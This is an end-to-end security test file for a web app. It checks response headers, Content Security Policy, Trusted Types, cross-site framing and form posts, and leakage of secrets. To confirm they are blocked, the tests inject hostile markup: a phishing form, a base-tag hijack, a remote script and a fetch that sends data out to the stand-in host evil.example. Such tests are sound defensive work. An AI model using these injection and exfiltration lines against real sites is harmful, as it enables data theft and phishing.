import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { readdir } from 'node:fs/promises'
import { join } from 'node:path'
import { leakedInto, leakedIntoFiles } from '#tools/stack/build.ts'
import { expect, test, NO_RETRY } from './fixtures.ts'

test.describe.configure(NO_RETRY)

const PAGES = [
  '/',
  '/resources',
  '/resources/ai-roi-calculator',
  '/resources/nope',
  '/privacy',
  '/studiofoo',
  '/api',
  '/api/nothing',
  '/nothing/here',
]

/** Another site. Its host differs from the page's, so the browser isolates the two. */
async function otherSite(html: string): Promise<{ url: string; server: Server }> {
  const server = createServer((_, response) => {
    response.setHeader('Content-Type', 'text/html')
    response.end(html)
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, server }
}

test('every response carries its security headers', async ({ stack }) => {
  const fetchPath = (path: string, headers: Record<string, string> = {}) =>
    fetch(stack.url + path, { headers, redirect: 'manual' })
  for (const path of [
    ...PAGES,
    '/studio',
    '/api/leads',
    '/api/health',
    '/robots.txt',
    '/icon.svg',
  ]) {
    const { headers } = await fetchPath(path)
    const policy = headers.get('content-security-policy') ?? ''
    expect(policy, path).toMatch(/default-src '(self|none)'/)
    expect(policy, path).toMatch(/frame-ancestors '(self|none)'/)
    expect(headers.get('x-content-type-options'), path).toBe('nosniff')
    expect(headers.get('referrer-policy'), path).toBe('strict-origin-when-cross-origin')
    expect(headers.get('permissions-policy'), path).toContain('camera=()')
    expect(headers.get('cross-origin-opener-policy'), path).toBe('same-origin-allow-popups')
    expect(headers.get('cross-origin-resource-policy'), path).toBe('same-origin')
    expect(headers.get('strict-transport-security'), path).toBeNull()
    expect(headers.get('x-powered-by'), path).toBeNull()
  }
  const policyOf = async (path: string) =>
    (await fetchPath(path)).headers.get('content-security-policy')
  for (const path of PAGES) {
    expect(await policyOf(path), path).toMatch(/script-src 'self'; script-src-attr 'none'/)
    expect(await policyOf(path), path).not.toMatch(
      /unsafe-eval|style-src [^;]*'unsafe-inline'; style/,
    )
  }
  const secure = await fetchPath('/', { 'X-Forwarded-Proto': 'https' })
  expect(secure.headers.get('strict-transport-security')).toBe('max-age=31536000')
  const home = await (await fetchPath('/')).text()
  const card = /property="og:image" content="[^"]+?(\/opengraph-image[^"]+)"/.exec(home)?.[1] ?? ''
  for (const path of [card, '/share-images/resources']) {
    const shown = await fetchPath(path)
    const policy = shown.headers.get('cross-origin-resource-policy')
    expect([shown.status, policy], path).toEqual([200, 'cross-origin'])
  }
})

test('a page does only what its policy names; a violation fails', async ({ page, expected }) => {
  expected.problems.push(/Content Security Policy|csp$|status of 404/)
  expected.hosts.push('evil.example')
  const errors: string[] = []
  page.on('console', (message) => message.type() === 'error' && errors.push(message.text()))
  await page.goto('/')
  await page.evaluate(() => {
    const seen: string[] = []
    Object.assign(window, { seen })
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      seen.push(effectiveDirective),
    )
    // Trusted Types, which allow no markup from code, have their own test.
    const anything = (text: string) => text
    const rules = { createHTML: anything, createScript: anything, createScriptURL: anything }
    window.trustedTypes?.createPolicy('default', rules)
    const add = (html: string) => document.body.insertAdjacentHTML('beforeend', html)
    add(
      '<img src="https://evil.example/a.png"><img src="/nothing.png" onerror="window.hacked = 1">',
    )
    add('<style>body { display: none }</style><object data="https://evil.example/a"></object>')
    add('<form action="https://evil.example/" id="phish" method="post"><input name="email"></form>')
    const base = document.createElement('base')
    base.href = 'https://evil.example/'
    document.head.append(base)
    const script = document.createElement('script')
    script.src = 'https://evil.example/a.js'
    document.head.append(script)
    fetch('https://evil.example/steal').catch(() => {})
    const phish = document.getElementById('phish')
    if (phish instanceof HTMLFormElement) phish.submit()
    const evil = document.createElement('script')
    evil.textContent = 'window.hacked = 2'
    document.head.append(evil)
    // Deferred: under automation, the browser allows eval in evaluated code.
    Reflect.apply(setTimeout, window, ['window.hacked = 3'])
  })
  const seen = () => page.evaluate<string[]>(() => Reflect.get(window, 'seen'))
  await expect
    .poll(async () => new Set(await seen()))
    .toEqual(
      new Set([
        'img-src',
        'script-src-attr',
        'style-src-elem',
        'object-src',
        'base-uri',
        'script-src-elem',
        'connect-src',
        'form-action',
        'script-src',
      ]),
    )
  const done = await page.evaluate(() => [
    Reflect.get(window, 'hacked'),
    document.body.checkVisibility(),
  ])
  expect(done).toEqual([undefined, true])
  expect(errors.filter((line) => /Content Security Policy/.test(line)).length).toBeGreaterThan(8)
})

test('code writes no markup into a page, nor loads other scripts', async ({ page, expected }) => {
  expected.problems.push(/TrustedHTML|TrustedScript|Trusted Type/)
  for (const path of ['/', '/resources/ai-roi-calculator']) {
    await page.goto(path)
    if (path !== '/') await page.getByRole('textbox', { name: 'Email address' }).focus()
    if (path !== '/') await expect(page.locator('form[data-awake]')).toBeVisible()
    const refused = await page.evaluate(() => {
      const attempts = [
        () => document.body.insertAdjacentHTML('beforeend', '<img src=x>'),
        () => document.createElement('div').setHTMLUnsafe('<b>x</b>'),
        () => Object.assign(document.createElement('script'), { src: 'https://evil.example/a.js' }),
        () => Object.assign(document.createElement('script'), { src: '/api/health' }),
        () => Object.assign(document.createElement('script'), { text: 'window.hacked = 1' }),
      ]
      return attempts.map((attempt) => {
        try {
          attempt()
          return false
        } catch (error) {
          return error instanceof TypeError
        }
      })
    })
    expect(refused, path).toEqual([true, true, true, true, true])
  }
})

test("another site can't frame, read or post to a page", async ({ page, stack, expected }) => {
  expected.problems.push(
    /frame-ancestors|ERR_BLOCKED_BY_RESPONSE|ERR_FAILED|CORS|status of 40[134]/,
  )
  const email = 'dragged@example.com'
  const { url, server } = await otherSite(`<!doctype html>
    <iframe name="frame" src="${stack.url}/"></iframe>
    <iframe name="answer"></iframe>
    <form id="form" method="post" target="answer" action="${stack.url}/api/leads">
      <input name="email" value="${email}"><input name="source" value="resource_ai-roi-calculator">
    </form>`)
  try {
    await page.goto(url)
    const sent = page.waitForResponse(/api\/leads/)
    await page.evaluate(() => {
      const form = document.getElementById('form')
      if (form instanceof HTMLFormElement) form.submit()
    })
    expect((await sent).status()).toBe(403)
    const tried = await page.evaluate(
      async ([site, body]) => {
        const outcome = (promise: Promise<Response>) =>
          promise.then(
            ({ type }) => type,
            () => 'refused',
          )
        const simple = { method: 'POST', mode: 'no-cors', body } as const
        const json = { method: 'POST', headers: { 'Content-Type': 'application/json' }, body }
        return Promise.all([
          outcome(fetch(`${site}/api/leads`, simple)),
          outcome(fetch(`${site}/api/leads`, json)),
          outcome(fetch(`${site}/api/reports/roi`, json)),
          outcome(fetch(`${site}/`)),
          outcome(fetch(`${site}/`, { mode: 'no-cors' })),
        ])
      },
      [stack.url, JSON.stringify({ email, source: 'resource_ai-roi-calculator' })] as const,
    )
    // The missing CORS header and CORP hide the last two responses from the page.
    expect(tried).toEqual(['refused', 'refused', 'refused', 'refused', 'refused'])
    const framed = page.frames().find((frame) => frame.name() === 'frame')
    expect(await framed?.content()).not.toContain('Northwright')
    expect(await stack.rows('select 1 from email_submissions where email = $1', [email])).toEqual(
      [],
    )
  } finally {
    server.close()
  }
})

test('nothing sent to a browser contains a secret or the name of one', async ({ stack }) => {
  expect(leakedInto(`a ${stack.env.CRON_SECRET}, RESEND_API_KEY`, stack.env)).toEqual([
    'CRON_SECRET',
    'RESEND_API_KEY',
  ])
  const files = join(stack.folder, 'site', 'static')
  expect(await leakedIntoFiles(files, stack.env)).toEqual([])
  const names = await readdir(files, { recursive: true })
  expect(names.filter((name) => name.endsWith('.map'))).toEqual([])
  for (const path of [...PAGES, '/studio', '/resources/automation-checklist']) {
    for (const RSC of ['', '1']) {
      const text = await (await fetch(stack.url + path, { headers: RSC ? { RSC } : {} })).text()
      expect(leakedInto(text, stack.env), path).toEqual([])
      expect(text, path).not.toMatch(/postgres(ql)?:\/\//)
    }
  }
})
